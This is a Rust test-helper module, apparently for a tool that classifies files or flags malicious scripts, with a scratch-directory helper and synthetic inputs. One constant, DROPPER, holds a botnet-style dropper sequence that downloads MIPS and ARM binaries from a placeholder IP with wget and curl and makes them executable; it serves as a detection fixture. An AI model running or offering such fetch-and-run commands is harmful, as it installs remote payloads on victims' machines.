//! Common test utilities and helpers.

use std::fs;
use std::path::{Path, PathBuf};
use tempfile::TempDir;

/// A scratch directory that owns the synthetic files of one test.
pub struct Workspace {
    dir: TempDir,
}

impl Workspace {
    pub fn new() -> Self {
        Self {
            dir: tempfile::tempdir().expect("create temp dir"),
        }
    }

    pub fn path(&self) -> &Path {
        self.dir.path()
    }

    /// Write `contents` to `name` inside the workspace and return its path.
    pub fn file<C: AsRef<[u8]>>(&self, name: &str, contents: C) -> PathBuf {
        let path = self.dir.path().join(name);
        fs::write(&path, contents).unwrap_or_else(|e| panic!("write {:?}: {}", path, e));
        path
    }
}

/// Common synthetic inputs
pub mod test_data {
    /// Four distinct keywords on separate lines, no directive.
    pub const DROPPER: &str = "cd /tmp\nwget http://198.51.100.7/x.mips\ncurl -O http://198.51.100.7/x.arm\nchmod 777 x.mips\n";

    /// Exactly three keyword tokens.
    pub const THREE_MARKERS: &str = "wget\ncurl\nchmod\n";

    /// Prose that mentions keywords only as substrings.
    pub const PROSE: &str = "The disarmed robot shrugged.\nNobody curled up by the fire.\n";

    /// A bash script behind env indirection.
    pub const BASH_ENV: &str = "#!/usr/bin/env bash\nset -euo pipefail\necho hello\n";

    /// Minimal 64-bit little-endian PIE: ET_DYN with a PT_INTERP header.
    pub fn pie_elf() -> Vec<u8> {
        let mut data = vec![0u8; 64 + 56];
        data[..4].copy_from_slice(b"\x7fELF");
        data[4] = 2;
        data[5] = 1;
        data[6] = 1;
        data[16..18].copy_from_slice(&3u16.to_le_bytes()); // ET_DYN
        data[18..20].copy_from_slice(&62u16.to_le_bytes());
        data[20..24].copy_from_slice(&1u32.to_le_bytes());
        data[32..40].copy_from_slice(&64u64.to_le_bytes());
        data[52..54].copy_from_slice(&64u16.to_le_bytes());
        data[54..56].copy_from_slice(&56u16.to_le_bytes());
        data[56..58].copy_from_slice(&1u16.to_le_bytes());
        data[64..68].copy_from_slice(&3u32.to_le_bytes()); // PT_INTERP
        data
    }
}
